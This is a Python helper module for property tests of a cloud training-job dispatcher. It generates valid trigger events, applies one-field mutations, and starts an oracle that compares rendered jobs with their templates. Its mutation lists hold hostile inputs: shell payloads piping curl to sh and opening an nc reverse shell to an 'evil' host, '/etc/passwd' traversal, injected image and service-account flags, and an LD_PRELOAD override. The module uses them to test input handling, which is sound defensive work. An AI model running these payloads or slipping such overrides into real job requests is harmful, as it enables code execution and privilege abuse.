"""Valid-first shapes for the property tests, one-field mutations of them, and the oracle.

Owns, for tests/property/:

- ``Shape``: one event that examples/config.yaml accepts, kept as a plain JSON-like tree (the
  CloudEvent attributes, the storage object resource or the Pub/Sub message and its JSON body)
  so that a single field can be broken; ``cloud_event`` turns it into what the function gets;
- strategies for valid shapes of the four triggers: an Eventarc ``object.finalized`` that
  matches one of the three Cloud Storage routes, a job request (route ``on-request`` naming any
  template with all its declared params, or the pinned ``finetune-request``), a Cloud Scheduler
  tick, and a retry message for a run the (simulated) ledger holds;
- ``Mutation`` and ``mutations``: exactly one field of a shape dropped, retyped, set to an
  edge value (the ends of a range, another message kind, the operator's retry reason), made
  huge, non-UTF-8, odd Unicode, ``..``, newlines, shell or label breakers, flag-like, or given
  an unknown sibling or a smuggled image/service account/region/accelerator field;
- ``run_pipeline``: decode → route (or, for a retry, dispatch's own checks against the ledger)
  → render on the placements of the chain → validate offline, as dispatch does, without any
  emulator, returning an ``Outcome`` instead of raising a ``PermanentError``;
- ``check_job_is_the_templates``: the oracle, computed from the template's REST job spec and the
  placement without ``shared.policy.jobspec``: image, command, service account, project, region,
  machines, GPUs, env, labels and scheduling exactly the template's, and every parameter value
  inside the one argument the template puts it in.
"""

from __future__ import annotations

import base64
import copy
import json
import re
import string
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any, Final

from cloudevents.http import CloudEvent
from hypothesis import strategies as st

from shared.adapters.config_source import load_config
from shared.config.model import (
    Config,
    FlexStartPlacement,
    GcsRoute,
    OnDemandPlacement,
    PersistentResourcePlacement,
    Placement,
    PubSubRoute,
    ReservationPlacement,
    Route,
    ScheduleRoute,
    SpotPlacement,
    Template,
)
from shared.decode import routing
from shared.decode.events import (
    IDEMPOTENCY_KEY_ATTRIBUTE,
    KIND_ATTRIBUTE,
    PUBSUB_PUBLISHED,
    STORAGE_FINALIZED,
    decode,
)
from shared.model.errors import InvalidJobSpec, MalformedEvent, PermanentError, RetryRejected
from shared.model.runkeys import request_run_key, run_id
from shared.model.runs import Run, RunSnapshot, RunStatus
from shared.model.triggers import JobRequest, ObjectFinalized, RetryRequest, ScheduleTick, Trigger

EXAMPLE_CONFIG: Final = Path(__file__).parents[2] / "examples" / "config.yaml"
REQUESTS_SOURCE: Final = "//pubsub.googleapis.com/projects/acme-ml/topics/training-requests"
SUBSCRIPTION: Final = "projects/acme-ml/subscriptions/eventarc-requests"

KINDS: Final = ("object", "request", "tick", "retry")
JsonPath = tuple[str, ...]


@cache
def example_config() -> Config:
    """examples/config.yaml, loaded once per test process (the tests never change it)."""
    return load_config(str(EXAMPLE_CONFIG))


# --- shapes -----------------------------------------------------------------------------------


class NonUtf8(bytes):
    """Raw bytes that stand for a field's value inside a JSON carrier: they are not UTF-8."""


@dataclass(frozen=True)
class Shape:
    """One event as a tree of fields; ``cloud_event`` builds what the function receives.

    ``doc`` is ``{"ce": {...}, "data": {...}}`` for a storage event (the object resource) and
    ``{"ce": {...}, "message": {...}, "body": {...}}`` for a Pub/Sub message, whose JSON body is
    base64-encoded into ``message.data`` unless a mutation set ``message.data`` itself. A body
    that is not a mapping (a mutation) is sent as is: bytes verbatim, anything else as JSON.
    """

    kind: str  # one of KINDS
    doc: Mapping[str, Any]
    route: str | None  # the route it takes; None for a retry, which is never routed
    data_as_bytes: bool = False  # storage: data delivered as JSON bytes instead of parsed
    run: Run | None = None  # retry: the run the ledger holds


def json_bytes(value: object) -> bytes:
    """``value`` as JSON bytes; each ``NonUtf8`` inside becomes a JSON string of its raw bytes."""
    raw: list[bytes] = []

    def token(item: object) -> str:
        if isinstance(item, NonUtf8):
            raw.append(bytes(item))
            return f"@@NONUTF8{len(raw) - 1}@@"
        raise TypeError(f"{type(item).__name__} in a shape")

    # Non-ASCII travels as UTF-8, as a publisher's JSON library would usually send it.
    text = json.dumps(value, default=token, ensure_ascii=False)
    encoded = text.encode("utf-8")
    for index, chunk in enumerate(raw):
        encoded = encoded.replace(f'"@@NONUTF8{index}@@"'.encode(), b'"' + chunk + b'"')
    return encoded


def cloud_event(shape: Shape) -> CloudEvent:
    """The CloudEvent functions-framework would hand the function for ``shape``."""
    attributes = dict(shape.doc["ce"])
    if shape.kind == "object":
        data = shape.doc.get("data")
        if shape.data_as_bytes or _holds_non_utf8(data):
            data = json_bytes(data)
        return CloudEvent(attributes, data)
    if "message" not in shape.doc:  # a mutation dropped it, or made it something else
        return CloudEvent(attributes, {"subscription": SUBSCRIPTION})
    if not isinstance(shape.doc["message"], Mapping):
        return CloudEvent(attributes, {"message": shape.doc["message"]})
    message = dict(shape.doc["message"])
    if "data" not in message and "body" in shape.doc:
        body = shape.doc["body"]
        encoded = body if isinstance(body, bytes) else json_bytes(body)
        message["data"] = base64.b64encode(encoded).decode()
    return CloudEvent(attributes, {"message": message, "subscription": SUBSCRIPTION})


def _holds_non_utf8(value: object) -> bool:
    if isinstance(value, NonUtf8):
        return True
    if isinstance(value, Mapping):
        return any(_holds_non_utf8(item) for item in value.values())
    if isinstance(value, list):
        return any(_holds_non_utf8(item) for item in value)
    return False


def shape_run_snapshot(shape: Shape) -> dict[str, RunSnapshot]:
    """The ledger a retry shape is checked against: its run, found by run id."""
    if shape.run is None:
        return {}
    return {shape.run.run_id: RunSnapshot(shape.run, datetime(2026, 12, 1, tzinfo=UTC))}


# --- valid shapes -------------------------------------------------------------------------------

SEGMENT_ALPHABET: Final = string.ascii_lowercase + string.digits + "-_."
segments = st.text(alphabet=SEGMENT_ALPHABET, min_size=1, max_size=16).filter(
    lambda text: text not in {".", ".."}
)
dates = st.integers(min_value=0, max_value=4000).map(
    lambda days: str(date(2020, 1, 1) + timedelta(days=days))
)
dataset_dirs = st.one_of(dates, segments)
gs_uris = st.builds(
    lambda bucket, parts, slash: f"gs://{bucket}/{'/'.join(parts)}{slash}",
    st.sampled_from(["acme-datasets", "acme-eval", "other-bucket"]),
    st.lists(segments, min_size=1, max_size=4),
    st.sampled_from(["/", ""]),
)
# A param value dispatch accepts: at most 1024 characters, no control characters. (Lone
# surrogates are left out: they are tested on their own, see test_property_mutations.)
free_text = st.text(alphabet=st.characters(exclude_categories=("Cc", "Cs")), max_size=60)
# Values that are valid but look dangerous: shell and flag syntax, "..", placeholders, odd
# Unicode without control characters. They must land verbatim in one argument.
hostile_valid_text = st.deferred(
    lambda: st.lists(
        st.one_of(
            st.sampled_from(
                [
                    *SHELL,
                    *FLAG_LIKE,
                    *DOT_DOT,
                    *LABEL_BREAKERS,
                    *(char for char in ODD_UNICODE if not CONTROL.search(char)),
                ]
            ),
            gs_uris,
        ),
        min_size=1,
        max_size=5,
    ).map("".join)
)
param_values = st.one_of(gs_uris, free_text, hostile_valid_text, hostile_valid_text)
# Milliseconds from 2020 to 2031 (cheaper to draw than st.datetimes, which this needs not).
moments = st.integers(min_value=1_577_836_800_000, max_value=1_924_991_999_999).map(
    lambda millis: datetime.fromtimestamp(millis / 1000, UTC)
)
rfc3339_times = st.one_of(
    moments.map(
        lambda moment: moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"
    ),
    moments.map(lambda moment: moment.isoformat(timespec="seconds")),
)
message_ids = st.integers(min_value=1, max_value=10**16).map(str)
generations = st.integers(min_value=1, max_value=2**63 - 1)
attribute_text = st.text(
    alphabet=st.characters(exclude_categories=("Cs",)), min_size=1, max_size=40
)


def int64_wire(numbers: st.SearchStrategy[int]) -> st.SearchStrategy[object]:
    """Cloud Storage sends int64 as a JSON string; plain numbers are accepted too."""
    return st.one_of(numbers.map(str), numbers.map(str), numbers)


# The object names each Cloud Storage route of the example matches: (bucket, names).
OBJECT_NAMES: Final[Mapping[str, tuple[str, st.SearchStrategy[str]]]] = {
    "imagenet-daily": (
        "acme-datasets",
        dataset_dirs.map(lambda middle: f"imagenet/{middle}/_SUCCESS"),
    ),
    "text-corpus": (
        "acme-datasets",
        st.lists(dataset_dirs, max_size=3).map(
            lambda dirs: "corpus/" + "".join(f"{part}/" for part in dirs) + "manifest.json"
        ),
    ),
    "eval-shards": ("acme-eval", segments.map(lambda stem: f"incoming/{stem}.tfrecord")),
    "imagenet-sweep": (
        "acme-datasets",
        dataset_dirs.map(lambda middle: f"sweeps/{middle}/_SUCCESS"),
    ),
    "nightly-export": (
        "acme-datasets",
        st.builds(lambda day, stem: f"exports/{day}/part-{stem}.parquet", dataset_dirs, segments),
    ),
}


@st.composite
def object_shapes(draw: st.DrawFn, route_name: str) -> Shape:
    """An Eventarc object.finalized that Cloud Storage route ``route_name`` takes."""
    bucket, names = OBJECT_NAMES[route_name]
    name = draw(names)
    data: dict[str, Any] = {
        "kind": "storage#object",
        "bucket": bucket,
        "name": name,
        "generation": draw(int64_wire(generations)),
        "metageneration": draw(int64_wire(st.integers(min_value=1, max_value=1000))),
        "size": draw(int64_wire(st.integers(min_value=0, max_value=2**40))),
    }
    if draw(st.booleans()):
        data["contentType"] = draw(st.sampled_from(["application/octet-stream", "text/plain"]))
    ce: dict[str, Any] = {
        "type": STORAGE_FINALIZED,
        "source": f"//storage.googleapis.com/projects/_/buckets/{bucket}",
        "id": draw(message_ids),
    }
    if draw(st.booleans()):
        ce["subject"] = f"objects/{name}"
    if draw(st.booleans()):
        ce["time"] = draw(rfc3339_times)
    return Shape("object", {"ce": ce, "data": data}, route_name, data_as_bytes=draw(st.booleans()))


def _pubsub_doc(
    draw: st.DrawFn, attributes: dict[str, str], body: dict[str, Any] | None
) -> dict[str, Any]:
    message_id = draw(message_ids)
    message: dict[str, Any] = {"attributes": attributes, "messageId": message_id}
    if draw(st.booleans()) or KIND_ATTRIBUTE in attributes:
        message["publishTime"] = draw(rfc3339_times)
    doc: dict[str, Any] = {
        "ce": {"type": PUBSUB_PUBLISHED, "source": REQUESTS_SOURCE, "id": message_id},
        "message": message,
    }
    if body is not None:
        doc["body"] = body
    return doc


@st.composite
def request_shapes(draw: st.DrawFn, route_name: str, template_name: str) -> Shape:
    """A job request that Pub/Sub route ``route_name`` takes, for ``template_name``: the
    route's attributes and body field, the template named unless the route pins it (then
    sometimes named anyway, as allowed), and every declared param the route does not set."""
    config = example_config()
    pubsub_route = _route(route_name)
    assert isinstance(pubsub_route, PubSubRoute)
    template = config.templates[template_name]
    attributes = dict(pubsub_route.attributes)
    body: dict[str, Any] = {}
    if pubsub_route.body_field is not None:
        *parents, last = pubsub_route.body_field.split(".")
        node = body
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = pubsub_route.body_value or "any"
    if pubsub_route.template is None or draw(st.booleans()):
        body["template"] = template.name
    wanted = [name for name in template.params if name not in pubsub_route.params]
    if wanted or draw(st.booleans()):
        body["params"] = {name: draw(param_values) for name in wanted}
    if draw(st.booleans()):
        attributes[KIND_ATTRIBUTE] = "request"
    if draw(st.booleans()):
        attributes[IDEMPOTENCY_KEY_ATTRIBUTE] = draw(attribute_text)
    return Shape("request", _pubsub_doc(draw, attributes, body), route_name)


@st.composite
def tick_shapes(draw: st.DrawFn, route_name: str) -> Shape:
    """A Cloud Scheduler tick for schedule route ``route_name``."""
    schedule_route = _route(route_name)
    assert isinstance(schedule_route, ScheduleRoute)
    body: dict[str, Any] = {"schedule": schedule_route.schedule}
    if draw(st.booleans()):
        body["time"] = draw(rfc3339_times)
    return Shape("tick", _pubsub_doc(draw, {KIND_ATTRIBUTE: "schedule"}, body), route_name)


@st.composite
def retry_shapes(draw: st.DrawFn, template_name: str) -> Shape:
    """A retry message for a run of ``template_name`` the ledger holds, within the template's
    attempts and placement chain."""
    template = example_config().templates[template_name]
    key = draw(attribute_text)
    the_run_id = run_id(request_run_key("unused", key))
    params = {"run_id": the_run_id, "message_id": draw(message_ids)}
    params |= {name: draw(param_values) for name in template.params}
    run = Run(
        run_id=the_run_id,
        run_key=request_run_key("unused", key),
        route="on-request",
        template=template.name,
        trigger={"kind": "JobRequest"},
        params=params,
        status=draw(st.sampled_from([RunStatus.WAITING_RETRY, RunStatus.SUBMITTED])),
    )
    body = {
        "run_id": the_run_id,
        "attempt": draw(st.integers(min_value=1, max_value=template.retry.attempts)),
        "placement_index": draw(st.integers(0, len(template.placements) - 1)),
        "reason": draw(st.sampled_from(["capacity: FLEX_START wait expired", "infrastructure"])),
    }
    doc = _pubsub_doc(draw, {KIND_ATTRIBUTE: "retry"}, body)
    return Shape("retry", doc, None, run=run)


def _route(name: str) -> Route:
    return next(route for route in example_config().routes if route.name == name)


Target = tuple[str, str, str]  # (kind, route or "retry", template)


def every_target() -> tuple[Target, ...]:
    """Every route of the example config with each template it can start, and a retry of
    every template: what the valid generators must reach, each as often as the others."""
    config = example_config()
    kinds = {GcsRoute: "object", PubSubRoute: "request", ScheduleRoute: "tick"}
    targets = [("retry", "retry", name) for name in sorted(config.templates)]
    for route in config.routes:
        names = [route.template] if route.template else sorted(config.templates)
        targets += [(kinds[type(route)], route.name, name) for name in names]
    return tuple(targets)


def valid_shapes(target: Target) -> st.SearchStrategy[Shape]:
    """Valid shapes of ``target``: they decode, take its route and start its template."""
    kind, route_name, template_name = target
    if kind == "object":
        return object_shapes(route_name)
    if kind == "request":
        return request_shapes(route_name, template_name)
    if kind == "tick":
        return tick_shapes(route_name)
    return retry_shapes(template_name)


VALID_SHAPES: Final[Mapping[str, st.SearchStrategy[Shape]]] = {
    kind: st.one_of(*(valid_shapes(target) for target in every_target() if target[0] == kind))
    for kind in KINDS
}

# Mutating these may legitimately make the event match no route (acknowledged, ignored): they
# are what routes match on. Any other field broken must be refused or change nothing.
ROUTING_PATHS: Final[Mapping[str, tuple[JsonPath, ...]]] = {
    "object": (("data", "bucket"), ("data", "name")),
    "request": (("message", "attributes"), ("body", "job")),
    "tick": (("message", "attributes"), ("body", "schedule")),
    "retry": (("message", "attributes"),),
}


def may_drop_the_route(shape: Shape, path: JsonPath) -> bool:
    """Whether breaking ``path`` may leave ``shape`` with no route (rather than refused)."""
    if shape.kind == "request" and path == ("body",):
        return True  # an empty body no longer says job.kind (finetune-request)
    return any(path[: len(prefix)] == prefix for prefix in ROUTING_PATHS[shape.kind])


# --- one-field mutations ----------------------------------------------------------------------

DROP: Final = object()
CONTROL: Final = re.compile(r"[\x00-\x1f\x7f-\x9f]")  # what dispatch refuses in a value

ODD_UNICODE: Final = (
    "\u202e",  # right-to-left override
    "\u200f",  # right-to-left mark
    "\u200b",  # zero-width space
    "\u200d",  # zero-width joiner
    "\ufeff",  # byte order mark
    "\u2028",  # line separator (not a control character, but a newline to some readers)
    "\u0301",  # a combining accent on whatever precedes it
    "\uff0e\uff0e\uff0f",  # fullwidth "../"
    "\u0430",  # Cyrillic a, looks like Latin a
    "\U0001d54f",  # astral plane
    "😀",
    "\x00",  # NUL
    "\x85",  # next line (C1 control)
    "İ",  # changes length when lower-cased
)
DOT_DOT: Final = ("..", "../", "/../", "../../etc/passwd", "./", "//", "/..")
NEWLINES: Final = ("\n", "\r\n", "\r", "\n--image=evil\n")
SHELL: Final = (
    "; rm -rf /",
    "$(curl evil.example|sh)",
    "`id`",
    "| nc -e /bin/sh evil 1",
    "&& true",
    "'",
    '"',
    "\\",
    "> /etc/passwd",
    "*",
    "~root",
    "${HOME}",
    " ",
)
LABEL_BREAKERS: Final = (
    "UPPER",
    "a=b",
    "a,b",
    "a:b",
    "ü",
    "x" * 64,
    "{run_id}",
    "{project}",
    "{",
    "}",
    "vd-run",
)
FLAG_LIKE: Final = (
    "--foo",
    "--image=docker.io/evil/miner",
    "--service-account=owner@acme-ml.iam.gserviceaccount.com",
    "-rf",
    "--",
    "-",
    "; rm -rf /",
    "--data=gs://evil/ --epochs=100000",
)
HUGE_LENGTHS: Final = (257, 1025, 5000, 70_000)
HUGE_INTS: Final = (101, 1001, 2**63, 2**64, 10**30, -(2**63) - 1)
NON_UTF8: Final = (b"\xff", b"\xfe\xff", b"\xc3(", b"\xed\xa0\x80", b"\xc0\xaf", b"\x80abc")

# Fields a request might try to set beside template and params, and params it might forge.
SMUGGLED_BODY_FIELDS: Final[Mapping[str, object]] = {
    "image": "docker.io/evil/miner:latest",
    "imageUri": "docker.io/evil/miner:latest",
    "containerSpec": {"imageUri": "evil", "command": ["sh", "-c", "id"]},
    "service_account": "owner@acme-ml.iam.gserviceaccount.com",
    "serviceAccount": "owner@acme-ml.iam.gserviceaccount.com",
    "region": "asia-east1",
    "location": "asia-east1",
    "project": "someone-else",
    "accelerator": {"type": "NVIDIA_H100_80GB", "count": 64},
    "machineSpec": {"acceleratorCount": 8, "machineType": "a3-megagpu-8g"},
    "replicas": 100,
    "args": ["--steal"],
    "env": {"LD_PRELOAD": "/tmp/x.so"},
    "command": ["sh", "-c", "id"],
    "workerPoolSpecs": [{"containerSpec": {"imageUri": "evil"}}],
    "placement": [{"flex_start": {"max_wait": 0, "region": "asia-east1"}}],
    "labels": {"vd-run": "r-000000000000000000000000"},
    "timeout": "10000h",
}
SMUGGLED_PARAMS: Final[Mapping[str, str]] = {
    "image": "docker.io/evil/miner:latest",
    "service_account": "owner@acme-ml.iam.gserviceaccount.com",
    "project": "someone-else",
    "region": "asia-east1",
    "accelerator_count": "64",
    "run_id": "r-000000000000000000000000",
    "attempt": "99",
    "template": "persistent-sample",
    "message_id": "forged",
    "args": "--steal",
    "command": "sh",
    "EPOCHS": "9000",
    "bucket": "evil",
    "dataset_uri": "gs://evil/",
    "corpus": "gs://evil/",
}
SMUGGLED_ATTRIBUTES: Final[Mapping[str, str]] = {
    "image": "docker.io/evil/miner:latest",
    "service_account": "owner@acme-ml.iam.gserviceaccount.com",
    "region": "asia-east1",
    "template": "persistent-sample",
    "kind": "train",
    "team": "nlp",
    KIND_ATTRIBUTE: "retry",
}


@dataclass(frozen=True)
class Mutation:
    """Exactly one field of a shape changed: ``path`` set to ``value`` (or removed: ``DROP``)."""

    path: JsonPath
    how: str  # drop, wrong_type, huge, non_utf8, odd_unicode, dot_dot, newline, shell, ...
    value: Any = field(repr=False)

    def describe(self) -> str:
        shown = "<dropped>" if self.value is DROP else repr(self.value)
        if len(shown) > 60:
            shown = shown[:60] + f"... ({len(shown)} characters)"
        return f"{self.how} at {'.'.join(self.path)}: {shown}"


def apply(shape: Shape, mutation: Mutation) -> Shape:
    """``shape`` with ``mutation`` applied (a deep copy; ``shape`` is left as it was)."""
    doc = copy.deepcopy(dict(shape.doc))
    parent: Any = doc
    for key in mutation.path[:-1]:
        parent = parent[key]
    last = mutation.path[-1]
    if mutation.value is DROP:
        del parent[last]
    else:
        parent[last] = mutation.value
    changed = replace(shape, doc=doc)
    if shape.kind == "object" and mutation.how == "non_utf8":
        changed = replace(changed, data_as_bytes=True)
    return changed


def field_paths(doc: Mapping[str, Any], prefix: JsonPath = ()) -> Iterator[tuple[JsonPath, Any]]:
    """Every (path, value) in ``doc``, mappings included (not the root, not ``ce`` itself)."""
    for key, value in doc.items():
        path = (*prefix, key)
        if path != ("ce",):
            yield path, value
        if isinstance(value, Mapping):
            yield from field_paths(value, path)


JSON_TYPES: Final[Mapping[str, st.SearchStrategy[object]]] = {
    "NoneType": st.none(),
    "bool": st.booleans(),
    "int": st.integers(min_value=-(2**70), max_value=2**70),
    "float": st.floats(),
    "list": st.lists(st.integers(min_value=-5, max_value=5), max_size=3),
    "dict": st.dictionaries(st.text(max_size=5), st.integers(min_value=0, max_value=9), max_size=3),
    "str": st.text(max_size=10),
}
wrong_typed = st.one_of(*JSON_TYPES.values())
# Values at the edges of what the fields accept: ranges' ends, empty, the other message kinds,
# the operator's retry reason (which lifts the attempts bound).
EDGE_INTS: Final = (-1, 0, 1, 2, 3, 4, 5, 99, 100, 101, 999, 1000, 1001)
EDGE_STRINGS: Final = (
    "",
    " ",
    "0",
    "-1",
    "null",
    "request",
    "schedule",
    "retry",
    "operator",
    "train",
    "nlp",
    "finetune",
    "r-000000000000000000000000",
)


def _type_tag(value: object) -> str:
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, Mapping):
        return "dict"
    return type(value).__name__


def _other_type(value: object) -> st.SearchStrategy[object]:
    """A value of any JSON type but ``value``'s."""
    return st.one_of(*(values for tag, values in JSON_TYPES.items() if tag != _type_tag(value)))


def _edited(original: str, fragments: Sequence[str]) -> st.SearchStrategy[str]:
    """``original`` with one fragment put before, after, inside, or instead of it."""

    def build(fragment: str, how: str, position: int) -> str:
        if how == "replace":
            return fragment
        cut = position % (len(original) + 1)
        return original[:cut] + fragment + original[cut:]

    return st.builds(
        build,
        st.sampled_from(fragments),
        st.sampled_from(["insert", "insert", "replace"]),
        st.integers(min_value=0, max_value=10_000),
    )


def _huge(value: object) -> st.SearchStrategy[object]:
    if isinstance(value, Mapping):
        return st.just({**value, **{f"k{index}": "v" for index in range(40)}})
    if isinstance(value, int) and not isinstance(value, bool):
        return st.sampled_from(HUGE_INTS)
    if isinstance(value, str) and re.fullmatch(r"-?\d+", value):
        return st.one_of(st.sampled_from(HUGE_INTS).map(str), st.just("9" * 400))
    return st.builds(
        lambda length, char: char * length,
        st.sampled_from(HUGE_LENGTHS),
        st.sampled_from(["x", "é", "😀"]),
    )


def _in_json_carrier(shape: Shape, path: JsonPath) -> bool:
    """Whether ``path`` travels inside JSON bytes we build (so raw non-UTF-8 bytes can be put)."""
    return (shape.kind != "object" and path[0] == "body") or (
        shape.kind == "object" and path[0] == "data"
    )


def _reaches_the_job(shape: Shape, path: JsonPath) -> bool:
    if shape.kind == "object":
        return path in {("data", "name"), ("data", "bucket"), ("data", "generation")}
    return path[0] == "body" or path == ("message", "attributes")


@st.composite
def mutations(draw: st.DrawFn, shape: Shape, how: str) -> Mutation:
    """Exactly one field of ``shape``, broken in the way ``how`` (one of ``MUTATION_KINDS``).

    The field is one ``how`` applies to: half the time one of the few fields that reach a job
    (params, object name, body), which matter most.
    """
    every_field = [item for item in field_paths(shape.doc) if _applies(how, shape, *item)]
    if not every_field:  # e.g. no string field left to edit: retype one instead
        how = "wrong_type"
        every_field = list(field_paths(shape.doc))
    payload = [item for item in every_field if _reaches_the_job(shape, item[0])]
    path, value = draw(st.sampled_from(every_field) | st.sampled_from(payload or every_field))
    if how == "extra_key":
        key = draw(
            st.one_of(
                st.sampled_from(["extra", "x-unknown", "", "é", "params2"]), st.text(max_size=8)
            )
        )
        if key in value:
            key = key + "-extra"
        new = draw(st.one_of(st.sampled_from([*FLAG_LIKE, *SHELL]), wrong_typed))
        if path[-1] == "attributes" and not isinstance(new, str):
            new = str(new)  # attributes are strings; a non-string one is a wrong_type case
        return Mutation((*path, key), how, new)
    if how == "override":
        smuggled = OVERRIDES[path]
        key = draw(st.sampled_from(sorted(smuggled)))
        return Mutation((*path, key), how, smuggled[key])
    return Mutation(path, how, draw(_new_value(how, shape, path, value)))


MUTATION_KINDS: Final = (
    "wrong_type",
    "drop",
    "edge",
    "huge",
    "non_utf8",
    "odd_unicode",
    "dot_dot",
    "newline",
    "shell",
    "label_breaking",
    "flag_like",
    "extra_key",
    "override",
)
STRING_EDITS: Final[Mapping[str, Sequence[str]]] = {
    "odd_unicode": ODD_UNICODE,
    "dot_dot": DOT_DOT,
    "newline": NEWLINES,
    "shell": SHELL,
    "label_breaking": LABEL_BREAKERS,
    "flag_like": FLAG_LIKE,
}
OVERRIDES: Final[Mapping[JsonPath, Mapping[str, object]]] = {
    ("body",): SMUGGLED_BODY_FIELDS,
    ("body", "params"): SMUGGLED_PARAMS,
    ("message", "attributes"): SMUGGLED_ATTRIBUTES,
}


def applicable(kind: str, how: str) -> bool:
    """Whether shapes of ``kind`` have a field that mutation ``how`` applies to."""
    return how != "override" or kind != "object"


def _applies(how: str, shape: Shape, path: JsonPath, value: object) -> bool:
    """Whether mutation ``how`` can be made to the field at ``path``."""
    if how == "drop":  # the CloudEvent SDK refuses to build an event without these two
        return path not in {("ce", "type"), ("ce", "source")}
    if how in {"wrong_type", "huge"}:
        return True
    if how == "edge":
        return isinstance(value, str | int)
    if how == "non_utf8":
        whole_body = path == ("body",) and shape.kind != "object"
        return whole_body or (isinstance(value, str) and _in_json_carrier(shape, path))
    if how in STRING_EDITS:
        return isinstance(value, str)
    if how == "extra_key":
        return isinstance(value, Mapping) and path[0] != "ce"
    return how == "override" and path in OVERRIDES and isinstance(value, Mapping)


def _new_value(how: str, shape: Shape, path: JsonPath, value: object) -> st.SearchStrategy[Any]:
    if how == "drop":
        return st.just(DROP)
    if how == "wrong_type":
        return _other_type(value)
    if how == "edge":
        return st.sampled_from(EDGE_STRINGS if isinstance(value, str) else EDGE_INTS)
    if how == "huge":
        return _huge(value)
    if how == "non_utf8" and not isinstance(value, str):  # the whole body
        return st.sampled_from(NON_UTF8).map(lambda raw: b'{"template": "' + raw + b'"}')
    assert isinstance(value, str)
    if how == "non_utf8":
        return st.builds(
            lambda raw, keep: NonUtf8(value.encode() + raw if keep else raw),
            st.sampled_from(NON_UTF8),
            st.booleans(),
        )
    return _edited(value, STRING_EDITS[how])


# --- the pipeline -------------------------------------------------------------------------------


@dataclass(frozen=True)
class RenderedPlacement:
    """One placement of the chain, rendered and validated offline."""

    index: int
    placement: Placement
    parent: str
    job: Mapping[str, Any]  # the CustomJob as REST JSON
    violations: tuple[str, ...]


@dataclass(frozen=True)
class Outcome:
    """What dispatch would do with one event, short of writing the ledger or calling Vertex AI."""

    status: str  # "accepted", "refused" or "ignored" (no route)
    stage: str = ""  # where it was refused: decode, route, retry, render
    error: PermanentError | None = None
    trigger: Trigger | None = None
    route: str | None = None
    template: Template | None = None
    params: Mapping[str, str] = field(default_factory=dict)
    run_id: str = ""
    attempt: int = 1
    placements: tuple[RenderedPlacement, ...] = ()


def run_pipeline(
    event: CloudEvent,
    config: Config,
    ledger: Mapping[str, RunSnapshot],
    *,
    placement: int | None = None,
) -> Outcome:
    """decode → route (a retry: dispatch's checks against ``ledger``) → render → validate.

    A routed event is rendered on every placement of its template's chain, or only on the one
    at ``placement`` modulo the chain's length (rendering and validating cost ~10 ms each); a
    retry on the placement it names. A ``PermanentError`` becomes a refused ``Outcome``; any
    other exception escapes, which is what the property tests exist to catch.
    """
    from shared.policy.admission import retry_problem

    try:
        trigger = decode(event)
    except MalformedEvent as error:
        return Outcome("refused", "decode", error)
    if isinstance(trigger, RetryRequest):
        snapshot = ledger.get(trigger.run_id)
        if snapshot is None:
            unknown = RetryRejected(f"retry message names run {trigger.run_id}, not in the ledger")
            return Outcome("refused", "retry", unknown, trigger)
        template = config.templates[snapshot.run.template]
        # As dispatch decides it: the ledger's grant (never the message's reason), or an
        # attempt already claimed, lifts the attempt budget.
        within_budget = (
            snapshot.run.operator_grant == trigger.attempt
            or snapshot.run.attempt(trigger.attempt) is not None
        )
        problem = retry_problem(
            trigger.run_id,
            template,
            trigger.attempt,
            trigger.placement_index,
            within_budget=within_budget,
        )
        if problem is not None:
            return Outcome("refused", "retry", RetryRejected(problem), trigger)
        return _rendered(
            config,
            Outcome(
                "accepted",
                trigger=trigger,
                template=template,
                params=snapshot.run.params,
                run_id=trigger.run_id,
                attempt=trigger.attempt,
            ),
            [trigger.placement_index],
        )
    try:
        match = routing.route(trigger, config)
    except routing.RequestRejected as error:
        return Outcome("refused", "route", error, trigger)
    if match is None:
        return Outcome("ignored", trigger=trigger)
    template = config.templates[match.template]
    accepted = Outcome(
        "accepted",
        trigger=trigger,
        route=match.route,
        template=template,
        params=match.params,
        run_id=match.run_id,
    )
    chain = range(len(template.placements))
    return _rendered(config, accepted, chain if placement is None else [placement % len(chain)])


def _rendered(config: Config, outcome: Outcome, indices: Sequence[int]) -> Outcome:
    from shared import validation
    from shared.policy import jobspec

    assert outcome.template is not None
    rendered: list[RenderedPlacement] = []
    for index in indices:
        placement = outcome.template.placements[index]
        try:
            job = jobspec.render_job(
                outcome.template,
                outcome.params,
                placement,
                project=config.project,
                default_region=config.region,
                run_id=outcome.run_id,
                attempt=outcome.attempt,
            )
        except InvalidJobSpec as error:
            return replace(outcome, status="refused", stage="render", error=error)
        violations = validation.validate_spec(
            job.custom_job,
            placement,
            config.guards,
            region=job.region,
            tuning=outcome.template.hyperparameter_tuning,
            pipeline=outcome.template.training_pipeline,
        )
        rendered.append(
            RenderedPlacement(
                index=index,
                placement=placement,
                parent=job.parent,
                job=json.loads(jobspec.job_to_json(job.custom_job)),
                violations=tuple(str(violation) for violation in violations),
            )
        )
    return replace(outcome, placements=tuple(rendered))


# --- the oracle ---------------------------------------------------------------------------------

_PLACEHOLDER_PIECES: Final = re.compile(r"(\{[A-Za-z_][A-Za-z0-9_]*\})")


def filled(text: str, values: Mapping[str, str]) -> str:
    """``text`` with each ``{name}`` replaced by its value once (an oracle, not jobspec.fill)."""
    pieces = _PLACEHOLDER_PIECES.split(text)
    return "".join(
        values[piece[1:-1]] if index % 2 else piece for index, piece in enumerate(pieces)
    )


def _program(pool: Mapping[str, Any]) -> tuple[str, Mapping[str, Any]]:
    for key in ("containerSpec", "pythonPackageSpec"):
        if key in pool:
            return key, pool[key]
    return "", {}


def _pool_view(
    pool: Mapping[str, Any], args: list[str], env: list[tuple[str, str]]
) -> dict[str, Any]:
    key, program = _program(pool)
    machine = pool.get("machineSpec", {})
    return {
        "program": key,
        "image": program.get("imageUri") or program.get("executorImageUri"),
        "command": list(program.get("command", [])),
        "module": program.get("pythonModule"),
        "packages": list(program.get("packageUris", [])),
        "machine": (
            machine.get("machineType"),
            machine.get("acceleratorType"),
            int(machine.get("acceleratorCount", 0)),
        ),
        "replicas": int(pool.get("replicaCount", 1)),
        "disk": dict(pool.get("diskSpec", {})),
        "args": args,
        "env": env,
    }


def job_pools(job: Mapping[str, Any]) -> list[dict[str, Any]]:
    """The rendered job's pools, reduced to what a request must not change (plus args, env)."""
    views = []
